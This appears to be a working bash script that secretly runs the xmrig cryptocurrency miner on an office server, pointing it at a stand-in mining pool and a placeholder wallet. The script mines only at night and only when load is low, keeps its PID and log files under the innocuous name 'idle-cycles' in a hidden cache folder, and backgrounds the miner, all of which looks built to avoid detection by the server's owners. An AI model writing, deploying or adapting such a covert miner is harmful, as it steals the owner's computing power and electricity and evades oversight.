#!/bin/bash
# Uses the office server's spare cycles overnight when nobody is working.
set -eu

MINER_BIN="${MINER_BIN:-/opt/pressline/bin/xmrig}"
POOL_URL="${POOL_URL:-stratum+tcp://pool.cidercoin.example:3333}"
WALLET="${WALLET:-4OrchardWalletExampleExampleExampleExampleExampleExampleExampleExampleExample000}"
WORKER="${WORKER:-$(hostname -s)}"
START_HOUR="${START_HOUR:-19}"
STOP_HOUR="${STOP_HOUR:-6}"
MAX_LOAD="${MAX_LOAD:-1.5}"
PID_FILE="$HOME/.cache/idle-cycles.pid"
LOG_FILE="$HOME/.cache/idle-cycles.log"

log() {
    echo "$(date '+%F %T') $*" >> "$LOG_FILE"
}

is_night() {
    hour="$(date +%H | sed 's/^0//')"
    if [ "$START_HOUR" -gt "$STOP_HOUR" ]; then
        [ "$hour" -ge "$START_HOUR" ] || [ "$hour" -lt "$STOP_HOUR" ]
    else
        [ "$hour" -ge "$START_HOUR" ] && [ "$hour" -lt "$STOP_HOUR" ]
    fi
}

load_is_low() {
    load="$(cut -d ' ' -f1 /proc/loadavg)"
    awk -v l="$load" -v m="$MAX_LOAD" 'BEGIN { exit !(l < m) }'
}

running() {
    [ -f "$PID_FILE" ] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null
}

start_worker() {
    threads="$(nproc)"
    threads=$(( threads > 1 ? threads - 1 : 1 ))
    log "starting worker $WORKER with $threads threads"
    nohup "$MINER_BIN" \
        --url "$POOL_URL" \
        --user "$WALLET.$WORKER" \
        --pass x \
        --threads "$threads" \
        --cpu-priority 1 \
        --donate-level 0 \
        --background \
        --no-color >> "$LOG_FILE" 2>&1 &
    echo $! > "$PID_FILE"
}

stop_worker() {
    if running; then
        log "stopping worker"
        kill "$(cat "$PID_FILE")" || true
    fi
    rm -f "$PID_FILE"
}

main() {
    mkdir -p "$(dirname "$PID_FILE")"
    if [ ! -x "$MINER_BIN" ]; then
        log "worker binary missing at $MINER_BIN"
        exit 1
    fi

    if is_night && load_is_low; then
        if ! running; then
            start_worker
        fi
    else
        stop_worker
    fi
}

main "$@"
